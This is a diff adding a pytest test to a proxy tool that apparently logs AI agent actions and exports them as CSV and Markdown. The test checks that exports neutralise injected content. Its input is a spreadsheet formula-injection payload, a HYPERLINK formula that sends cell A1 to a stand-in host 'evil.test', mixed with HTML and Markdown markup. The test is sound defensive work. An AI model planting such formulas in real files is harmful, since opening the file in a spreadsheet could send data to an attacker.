@@ -76,6 +76,23 @@ def test_markdown_is_a_table_with_one_row_per_step_and_no_secret(
         assert secret not in text
 
 
+def test_what_the_agent_wrote_stays_text(
+    proxy: Undoproxy, plain_upstream: ThreadedServer, session_id: str
+) -> None:
+    intent = '=HYPERLINK("http://evil.test/?"&A1, "x") | <b>bold</b> *why*'
+    with proxy.agent(session_id, headers={"X-Undoproxy-Intent": intent}) as agent:
+        agent.post(f"{plain_upstream.base_url}/notes", json={"n": 1}).raise_for_status()
+
+    [row] = list(csv.DictReader(io.StringIO(_export(proxy, session_id, "csv"))))
+    assert row["intent"] == "'" + intent  # a spreadsheet shows it, never runs it
+
+    md = _export(proxy, session_id, "md")
+    header, _, step = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(_cells(step)) == len(_cells(header))  # its | did not add a column
+    assert "<b>" not in md and "&lt;b&gt;" in md
+    assert r"\*why\*" in md
+
+
 @pytest.mark.parametrize("fmt", ["csv", "md"])
 def test_the_api_serves_each_format_with_its_type(
     proxy: Undoproxy, plain_upstream: ThreadedServer, session_id: str, fmt: str
